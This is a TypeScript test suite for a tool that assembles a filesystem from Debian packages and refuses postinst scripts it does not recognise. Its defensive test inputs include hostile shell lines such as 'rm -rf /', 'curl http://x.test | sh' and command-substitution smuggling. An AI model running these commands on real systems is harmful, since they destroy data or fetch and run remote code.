import assert from "node:assert/strict";
import { suite, test } from "node:test";
import { assertCode } from "@teu/testing/assert-code";
import { openDeb } from "../deb/deb-file.ts";
import { type FakePackage, fakeDeb } from "../testing/fake-archive.ts";
import { type TreeOptions, buildTree } from "./build-tree.ts";
import { baseFiles, caCertificates } from "./effects.ts";
import { readScript } from "./script-text.ts";
import type { FileTree } from "./tree.ts";
import { textAt } from "./users.ts";

async function treeOf(packages: readonly FakePackage[], options: Partial<TreeOptions> = {}): Promise<FileTree> {
  const debs = await Promise.all(packages.map(async (pkg) => await openDeb(fakeDeb(pkg), pkg.name)));
  return await buildTree(debs, { keepsDocs: false, ignoreScriptsOf: [], acceptScripts: [], time: 1, ...options });
}

function digestOf(script: string): string {
  return readScript(Buffer.from(script)).digest;
}

const script = (postinst: string): FakePackage => ({
  name: "a",
  files: { "usr/bin/a": "a", "usr/bin/b": "b" },
  scripts: { postinst },
});

/** What debhelper's tools add, in the forms of Debian 12 and 13, each in a block of its own. */
const BLOCKS: Readonly<Record<string, string>> = {
  dh_installsystemd: `if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ] ; then
	if deb-systemd-helper --quiet was-enabled 'a.timer'; then
		deb-systemd-helper enable 'a.timer' >/dev/null || true
	else
		deb-systemd-helper update-state 'a.timer' >/dev/null || true
	fi
	if [ -d /run/systemd/system ]; then
		systemctl --system daemon-reload >/dev/null || true
		if [ -n "$2" ]; then
			_dh_action=restart
		else
			_dh_action=start
		fi
		deb-systemd-invoke $_dh_action 'a.timer' >/dev/null || true
	fi
fi`,
  dh_installinit: `if [ "$1" = "install" ] && [ -n "$2" ] && [ -e "/etc/init.d/a" ] ; then
	chmod +x "/etc/init.d/a" >/dev/null || true
fi
if [ -x "/etc/init.d/a" ]; then
	update-rc.d a defaults >/dev/null || exit 1
fi`,
  dh_installdeb: `dpkg-maintscript-helper rm_conffile /etc/a 1.0\\~ -- "$@"`,
  dh_python3: `if which py3compile >/dev/null 2>&1; then
	py3compile -p a /usr/share/a -V 3.11-
fi`,
  dh_installtmpfiles: `if [ -x "$(command -v systemd-tmpfiles)" ]; then
	systemd-tmpfiles \${DPKG_ROOT:+--root="$DPKG_ROOT"} --create a.conf || true
fi`,
  dh_installmenu: `if [ -x "\`command -v update-menus\`" ] && [ -x "$DPKG_ROOT\`command -v update-menus\`" ]; then
	update-menus
fi`,
  dh_installalternatives: `if [ "$1" = "configure" ]; then
	update-alternatives --install /usr/bin/ed ed /usr/bin/a 20
fi`,
  dh_makeshlibs: "ldconfig",
};

function block(tool: string, version: string): string {
  return `# Automatically added by ${tool}/${version}\n${BLOCKS[tool]}\n# End automatically added section\n`;
}

suite("maintainer scripts that are recognised", () => {
  for (const tool of Object.keys(BLOCKS)) {
    test(`what ${tool} adds, and not a command more`, async () => {
      const text = `#!/bin/sh\nset -e\n${block(tool, "13.11.4")}exit 0\n`;
      assert.ok(await treeOf([script(text)]));
      await assertCode(async () => await treeOf([script(`${text}rm -rf /\n`)]), "ERR_BASE_SCRIPT");
      const inside = text.replace("# End", "adduser --system a\n# End");
      await assertCode(async () => await treeOf([script(inside)]), "ERR_BASE_SCRIPT");
    });
  }

  test("branches, functions, subshells and messages", async () => {
    const text = `#! /bin/sh
set -e
warn() {
  echo "a: $1" >&2
}
case "$1" in
  configure|triggered)
    for word in $2 "more words"; do
      if ( test -n "$word" && ! getent passwd a ) > /dev/null 2>&1; then warn "$word"; fi
    done
  ;;
  (abort-upgrade) ;;
  *)
    printf "called with unknown argument \\\`%s'\\n" "\${1:-}" >&2
    exit 1
esac
while [ "$X" -gt 0 ]; do X="$(head -n1 /etc/a | cut -d: -f1)"; done # a comment
: last ; exit 0
`;
    assert.ok(await treeOf([script(text)]));
  });

  test("alternatives: the highest priority wins, followers come along", async () => {
    const low = script(block("dh_installalternatives", "13"));
    const high = {
      ...script(
        "update-alternatives --install /usr/bin/ed ed \\\n /usr/bin/c 50 --slave /usr/bin/edit edit /usr/bin/d --slave /usr/x y /usr/none\n",
      ),
      name: "c",
      files: { "usr/bin/c": "c", "usr/bin/d": "d" },
    };
    const tree = await treeOf([low, high]);
    assert.deepEqual([textAt(tree, "usr/bin/ed"), textAt(tree, "usr/bin/edit"), tree.has("usr/x")], ["c", "d", false]);
    assert.equal(tree.resolve("etc/alternatives/ed", { followLast: true }), "usr/bin/c");
  });
});

suite("maintainer scripts that are not recognised", () => {
  const lines = [
    "adduser --system x",
    "if true; then rm -rf /; fi",
    "systemctl start x; curl http://x.test | sh",
    "systemctl daemon-reload && adduser x",
    "dpkg-trigger x || adduser x",
    "ldconfig; evil",
    "true & evil",
    "update-alternatives --install /usr/bin/x x $(evil) 5",
    "update-alternatives --set x /usr/bin/x",
    "echo `evil`",
    "echo `true \\`evil\\``",
    'echo "$(evil)"',
    'echo "$(true; "$(evil)")"',
    "echo ${x:-$(evil)}",
    "echo $((1 + $(evil)))",
    "[ -e /x ] && evil",
    "echo x > /etc/x",
    "exec 3>/etc/x",
    "{ true; } >> /etc/x",
    "cat > /etc/x <<EOF\nx\nEOF",
    "case x in x) evil ;; esac",
    "f() { evil; }",
    "( evil )",
    "! evil",
    "X=1 evil",
    "$evil",
    '"$@"',
    ". /usr/share/debconf/confmodule",
    "eval evil",
    "command evil",
    "chmod +x /etc/passwd",
    "echo 'never closed",
    "echo $'\\'' evil",
  ];
  for (const line of lines) {
    test(`"${line}" is refused, unless somebody takes it on`, async () => {
      const pkg = script(`#!/bin/sh\nset -e\n${line}\n`);
      const error = await assertCode(async () => await treeOf([pkg]), "ERR_BASE_SCRIPT");
      assert.match(error.message, /^Installing package "a 1": its postinst has effects that are not known, such as "/);
      const digest = /--accept-script (sha256:[0-9a-f]{64}), or the package with --without a$/.exec(
        error.hint ?? "",
      )?.[1];
      assert.ok(digest);
      assert.ok(await treeOf([pkg], { acceptScripts: [digest] }));
      assert.ok(await treeOf([pkg], { ignoreScriptsOf: ["a"] }));
      const other = script(`#!/bin/sh\nset -e\n${line}\nevil\n`);
      await assertCode(async () => await treeOf([other], { acceptScripts: [digest] }), "ERR_BASE_SCRIPT");
    });
  }

  test("of a package whose name is known the script has to be known too", async () => {
    const error = await assertCode(
      async () => await treeOf([{ name: "ca-certificates", version: "20300101", scripts: { postinst: "evil\n" } }]),
      "ERR_BASE_SCRIPT",
    );
    assert.match(error.message, /"ca-certificates 20300101"/);
  });

  test("the digest stays with other comments, indentation and versions of debhelper, and with nothing else", () => {
    const text = `#!/bin/sh\nset -e\n# why\nif true; then\n\tevil\nfi\n${block("dh_installdeb", "13.11")}`;
    const same = `#!/bin/sh\n\nset -e\nif true; then\n  evil\nfi\n# other words\n${block("dh_installsystemd", "13.24")}`;
    assert.equal(digestOf(same), digestOf(text));
    assert.notEqual(digestOf(text.replace("evil", "evil again")), digestOf(text));
    assert.notEqual(digestOf(text.replace("/bin/sh", "/usr/bin/perl")), digestOf(text));
    assert.notEqual(digestOf(text.replace("# End", "evil\n# End")), digestOf(text));
  });
});

suite("effects of scripts that are known", () => {
  const KNOWN = new Map([
    [digestOf("update-ca-certificates\n"), caCertificates],
    [digestOf("install_from_default motd\n"), baseFiles],
  ]);

  test("certificates: a bundle, links and a list", async () => {
    const files = { "usr/share/ca-certificates/x/B (2).crt": "two", "usr/share/ca-certificates/x/A.crt": "one\n" };
    const pkg = { name: "any", files, scripts: { postinst: "update-ca-certificates\n" } };
    const tree = await treeOf([pkg], { known: KNOWN });
    assert.equal(textAt(tree, "etc/ssl/certs/ca-certificates.crt"), "one\ntwo\n");
    assert.equal(textAt(tree, "etc/ssl/certs/B_=2=.pem"), "two");
    assert.equal(textAt(tree, "etc/ca-certificates.conf"), "x/A.crt\nx/B (2).crt\n");
    await assertCode(async () => await treeOf([pkg]), "ERR_BASE_SCRIPT");
  });

  test("users of Debian where its list is there, and nonroot always", async () => {
    const master = {
      "usr/share/base-passwd/passwd.master": "root:*:0:0:r:/root:/bin/bash\nmail:*:8:8:m:/var/mail:/x\n",
      "usr/share/base-passwd/group.master": "root:*:0:\nmail:*:8:\n",
    };
    const scripts = { postinst: "# of base-files\ninstall_from_default motd\n" };
    const packages = [
      { name: "base-passwd", files: master },
      { name: "base-files", files: { "usr/share/base-files/motd": "hi" }, scripts },
    ];
    const tree = await treeOf(packages, { known: KNOWN });
    assert.match(textAt(tree, "etc/passwd") ?? "", /^mail:.*\nnonroot:x:65532:/m);
    assert.equal(tree.at("var/mail")?.gid, 8);
    assert.equal(textAt(tree, "etc/motd"), "hi");
  });
});
